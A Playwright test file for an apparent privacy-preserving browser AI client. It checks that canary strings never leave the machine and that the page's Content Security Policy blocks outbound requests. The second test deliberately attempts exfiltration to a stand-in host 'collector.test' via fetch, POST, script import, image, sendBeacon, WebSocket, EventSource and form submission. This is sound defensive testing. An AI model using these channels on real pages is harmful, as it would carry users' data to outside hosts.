/**
 * The promise on the wire: random conversations with canaries in a real browser that finds nothing on the network but this
 * machine. What endpoints received, and every byte that the browser's own log says it sent, has none of them; the
 * engine's worker asked for the model and nothing else. `PROMISE_CHATS=1000` holds that many conversations.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, expect, test, type BrowserContext, type Page } from '@playwright/test';
import { chromiumFlags, findChromium } from '../../scripts/lib/chromium.mjs';
import type { ChatMessageParam, Client } from '../../src/index.ts';
import { seeded } from '../../test/models/random.ts';
import { tinyGguf } from '../../test/models/tiny-gguf.ts';
import { drawChat, type Turn } from '../../test/privacy/promise/chats.ts';
import { findLeaks } from '../../test/privacy/promise/leaks.ts';
import { unlabelled } from '../../test/privacy/promise/run.ts';
import { echo } from '../../test/privacy/promise/surroundings.ts';
import { startCloudServer } from '../fixtures/cloud/server.mjs';
import { openLibraryPage, startLibraryServer, type FaultServer } from '../fixtures/library-page.ts';
import { netLogFlags, readNetLog } from '../fixtures/net-log.ts';

declare global {
  // The only way to declare a property of globalThis.
  var promised: Client;
  var toldByPromised: string[];
  var violations: string[];
}

const CHATS = Number(process.env['PROMISE_CHATS'] ?? 20);
const MODEL = '/models/tiny.gguf';
/** Where Chromium asks for updates by itself; it finds nobody. */
const BROWSERS_OWN = /(?:^|\.)google(?:apis)?\.com$/;

const chats = Array.from({ length: CHATS }, (_, i) => drawChat(seeded(7_000_000 + i)));
const canaries = chats.flatMap((chat) => chat.canaries);

let folder: string;
let library: FaultServer;
let cloud: Awaited<ReturnType<typeof startCloudServer>>;

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'selvedge-promise-'));
  library = await startLibraryServer();
  library.put(MODEL, tinyGguf({ contextLength: 4096 }));
  cloud = await startCloudServer({ model: echo });
});

test.afterAll(async () => {
  await Promise.all([library.close(), cloud.close()]);
  rmSync(folder, { recursive: true, force: true });
});

function launch(netLog: string): Promise<BrowserContext> {
  const executablePath = findChromium();
  return chromium.launchPersistentContext(join(folder, 'profile'), {
    args: [...chromiumFlags, ...netLogFlags(netLog)],
    ...(executablePath ? { executablePath } : {}),
  });
}

function openClient(page: Page): Promise<void> {
  return page.evaluate(
    async ({ model, baseURL, terms }) => {
      const endpoint = { baseURL, model: 'scripted', contextLength: 8192 };
      globalThis.promised = await selvedge.createClient({
        model,
        cloud: [
          { ...endpoint, id: 'one' },
          { ...endpoint, id: 'other' },
        ],
        policy: { prefer: 'cloud', sticky: 'off', maxResidualRisk: 1, terms },
      });
      globalThis.toldByPromised = [];
      for (const type of ['route-decide', 'route-provider', 'route-egress', 'route-end'] as const)
        promised.on(type, (event) => toldByPromised.push(JSON.stringify(event)));
    },
    { model: MODEL, baseURL: cloud.baseURL, terms: chats.flatMap((chat) => chat.terms) },
  );
}

/** What came of it, or null. */
function ask(page: Page, messages: ChatMessageParam[], turn: Turn): Promise<string | null> {
  return page.evaluate(
    async ({ asked, route, privacy }) => {
      try {
        const { choices } = await promised.chat.completions.create({
          messages: asked,
          stream: false,
          max_tokens: 40,
          selvedge: { route, privacy },
        });
        return choices[0]?.message.content ?? null;
      } catch (error) {
        toldByPromised.push(String(error));
        return null;
      }
    },
    { asked: messages, route: turn.route, privacy: turn.privacy },
  );
}

/** The endpoint fails now and then: not more often than it is asked. */
const FAULTS = [{ cut: 300 }, { status: 503 }];

async function hold(page: Page): Promise<void> {
  let asked = 0;
  for (const { turns } of chats) {
    let earlier: ChatMessageParam[] = [];
    for (const turn of turns) {
      if (turn.forgets) earlier = [];
      const messages = [...earlier, ...turn.messages];
      const answer = await ask(page, messages, turn);
      earlier = messages.map(unlabelled);
      if (answer !== null) earlier.push({ role: 'assistant', content: answer });
      if (cloud.received.length >= asked + 4) {
        asked = cloud.received.length;
        cloud.failNext(FAULTS[asked % FAULTS.length]!);
      }
    }
  }
}

test('no byte of what must not leave is on the wire', async () => {
  test.setTimeout(120_000 + 4_000 * CHATS);
  const netLog = join(folder, 'net-log.json');
  const context = await launch(netLog);
  const page = await context.newPage();
  await openLibraryPage(page, library.address);
  await openClient(page);
  await hold(page);
  const told = await page.evaluate(() => toldByPromised);
  const ledger = await page.evaluate(() => promised.privacy.ledger());
  await context.close();

  const received = cloud.received.flatMap(({ url, headers, body }) => [url, JSON.stringify(headers), body]);
  expect(findLeaks(received, canaries)).toEqual([]);
  expect(findLeaks([...told, JSON.stringify(ledger)], canaries)).toEqual([]);
  // Much of it left.
  expect(cloud.received.length).toBeGreaterThan(CHATS / 2);
  expect(ledger.filter(({ outcome }) => outcome === 'sent').length).toBe(cloud.received.length);

  const { requests, sent } = readNetLog(netLog);
  const wire = sent.join('\n');
  for (const { body } of cloud.received) expect(wire).toContain(body);
  expect(findLeaks(sent, canaries)).toEqual([]);
  const hosts = requests
    .filter(({ url }) => /^(?:https?|wss?):/.test(url))
    .filter(({ url }) => !BROWSERS_OWN.test(new URL(url).hostname))
    .map(({ url }) => new URL(url).origin);
  expect(new Set(hosts)).toEqual(new Set([library.address, cloud.origin]));
  const toLibrary = requests.filter(({ url }) => url.startsWith(library.address));
  expect(new Set(toLibrary.map(({ method }) => method))).toEqual(new Set(['GET']));
  const paths = new Set(
    toLibrary.map(({ url }) => new URL(url)).map(({ pathname, search }) => pathname + search),
  );
  expect(
    [...paths].filter((path) => !/^\/(?:$|favicon\.ico$|lib\/[\w.-]+\.js$|workers\/[\w.-]+\.js$)/.test(path)),
  ).toEqual([MODEL]);
});

test("the chat page's policy lets nothing out but to itself and this machine", async ({ page }) => {
  await page.goto('/');
  const outcomes = await page.evaluate(async (address) => {
    globalThis.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
    const image = new Image();
    const sent = [
      await fetch(address).catch((error: unknown) => String(error)),
      await fetch(address, { method: 'POST', body: 'x', keepalive: true }).catch(String),
      await import(/* @vite-ignore */ `${address}code.js`).catch(() => 'no code'),
      await new Promise((resolve) => {
        image.onerror = () => resolve('no image');
        image.src = address;
      }),
    ];
    navigator.sendBeacon(address, 'x');
    for (const open of [() => new WebSocket('wss://collector.test'), () => new EventSource(address)]) {
      try {
        open();
      } catch {
        // Some browsers throw, others report.
      }
    }
    const form = document.createElement('form');
    form.action = address;
    document.body.append(form);
    form.submit();
    return sent.map(String);
  }, 'https://collector.test/');
  expect(outcomes).toEqual([
    expect.stringContaining('TypeError'),
    expect.stringContaining('TypeError'),
    'no code',
    'no image',
  ]);
  const directives = ['connect-src', 'connect-src', 'connect-src', 'connect-src', 'connect-src'];
  await expect
    .poll(() => page.evaluate(() => violations.toSorted()))
    .toEqual([...directives, 'form-action', 'img-src', 'script-src-elem']);
  expect(page.url()).not.toContain('collector');
});
